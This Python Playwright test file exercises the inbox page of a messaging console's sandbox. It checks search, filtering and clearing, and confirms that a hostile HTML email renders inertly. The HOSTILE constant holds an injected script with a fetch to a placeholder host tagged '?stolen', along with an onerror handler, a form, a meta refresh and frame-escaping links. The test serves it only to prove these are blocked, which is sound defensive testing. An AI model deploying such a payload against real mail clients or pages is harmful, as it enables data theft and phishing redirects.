"""The inbox: what simulated providers took, as it comes; and emails in which whatever is in them does nothing."""

from __future__ import annotations

from contextlib import closing
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread
from typing import Final

from playwright.sync_api import expect
from tests.browser.conftest import Open, Serve
from tests.browser.console import Console
from tests.e2e.calls import dispatch, email, sms

SANDBOX: Final = """
[server]
environment = "staging"

[providers.sandbox]
kind = "sandbox"
channels = ["sms", "mms", "email"]
"""

HOSTILE: Final = """<!doctype html>
<style>h1 { color: teal }</style>
<h1>Your invoice</h1><p>It is attached.</p>
<script>parent.postMessage('ran', '*'); fetch('ELSEWHERE/?stolen')</script>
<img src="ELSEWHERE/pixel.png" onerror="parent.postMessage('ran', '*')">
<form action="ELSEWHERE/" method="post"><button>Pay</button></form>
<a href="ELSEWHERE/" target="_top">Pay here</a>
<meta http-equiv="refresh" content="0;url=ELSEWHERE/">
<iframe src="ELSEWHERE/"></iframe>
"""


def test_what_is_taken_is_seen_as_it_comes_and_is_searched_and_cleared(console: Serve, browse: Open) -> None:
    server = console(toml=SANDBOX)
    watched = browse(server, "inbox")
    page = watched.page
    expect(page.get_by_text("Nothing is here.")).to_be_visible()
    assert watched.obstacles() == []

    dispatch(server, sms(to="+15005550006", body="Your code is 123456."))
    bubble = page.get_by_role("button", name="Your code is 123456.")
    expect(bubble).to_be_visible()
    dispatch(server, sms(to="+14155550132", body="Your table is ready"))
    dispatch(server, email("ann@example.org", subject="Welcome", text="Hello Ann"))
    expect(page.get_by_role("button", name="Welcome")).to_be_visible()
    assert watched.obstacles() == []

    page.get_by_label("Search").fill("CODE")
    expect(page.get_by_role("button", name="Welcome")).to_have_count(0)
    expect(bubble).to_be_visible()
    page.get_by_label("Search").fill("")
    page.get_by_label("To", exact=True).fill("Ann@Example.org")
    expect(bubble).to_have_count(0)
    expect(page.get_by_role("button", name="Welcome")).to_be_visible()
    assert "ann" not in page.url.lower()
    page.get_by_label("To", exact=True).fill("")
    page.get_by_label("Channel").select_option("sms")
    expect(page.get_by_role("button", name="Your table is ready")).to_be_visible()
    expect(page.get_by_role("button", name="Welcome")).to_have_count(0)
    assert page.url.endswith("?channel=sms")
    page.get_by_label("Channel").select_option("")

    page.get_by_role("button", name="Clear").click()
    page.get_by_role("dialog").get_by_role("button", name="Clear the inbox").click()
    expect(page.get_by_text("Nothing is here.")).to_be_visible()


class Elsewhere(ThreadingHTTPServer):
    """A server of somebody else, who is glad of every call."""

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Called)
        self.called: list[str] = []
        self.origin = f"http://127.0.0.1:{self.server_port}"
        self._serving = Thread(target=self.serve_forever, daemon=True)
        self._serving.start()

    def close(self) -> None:
        self.shutdown()
        self._serving.join()
        self.server_close()


class _Called(BaseHTTPRequestHandler):
    server: Elsewhere

    def do_GET(self) -> None:
        self.server.called.append(self.path)
        self.send_response(204)
        self.end_headers()

    do_POST = do_GET

    def log_message(self, *_: object) -> None:
        pass


def test_an_email_is_shown_and_nothing_in_it_does_anything(console: Serve, browse: Open) -> None:
    server = console(toml=SANDBOX)
    with closing(Elsewhere()) as elsewhere:
        _look_at_a_hostile_email(server, browse, elsewhere)
        assert elsewhere.called == []


def _look_at_a_hostile_email(server: Console, browse: Open, elsewhere: Elsewhere) -> None:
    # Chromium says on its console what the policy of the preview has kept from happening.
    watched = browse(
        server,
        "inbox",
        expected=(
            "Blocked script",
            "Blocked form",
            "Content Security Policy",
            "Refused to",
            "Unsafe attempt to initiate",
        ),
    )
    page = watched.page
    page.evaluate("window.heard = []; addEventListener('message', event => heard.push(event.data))")
    dispatch(
        server,
        email(
            "ann@example.org", subject="Invoice 7", text="as text", html=HOSTILE.replace("ELSEWHERE", elsewhere.origin)
        ),
    )
    dispatch(server, sms(body="Your code is 481516."))
    page.get_by_role("button", name="Invoice 7").click()
    expect(page.get_by_role("heading", name="Invoice 7")).to_be_focused()

    preview = page.frame_locator("iframe[title='The email, as HTML']")
    expect(preview.get_by_role("heading", name="Your invoice")).to_be_visible()
    expect(preview.get_by_role("heading")).to_have_css("color", "rgb(0, 128, 128)")
    preview.get_by_role("button", name="Pay").click()
    preview.get_by_role("link", name="Pay here").click()
    page.get_by_role("radio", name="Text").check()
    expect(page.get_by_role("region", name="The message").get_by_text("as text")).to_be_visible()
    page.get_by_role("radio", name="HTML").check()
    expect(preview.get_by_role("heading", name="Your invoice")).to_be_visible()

    assert page.evaluate("heard") == []
    assert page.url == f"{server.url}inbox"
    assert watched.obstacles() == []
    watched.picture("inbox")


def test_in_production_there_is_none_and_it_is_said(console: Serve, browse: Open) -> None:
    server = console(server__environment="production")
    watched = browse(server, "inbox", expected=("400 (Bad Request)",))
    expect(watched.page.get_by_text("INBOX_DISABLED").first).to_be_visible()
    assert watched.obstacles() == []
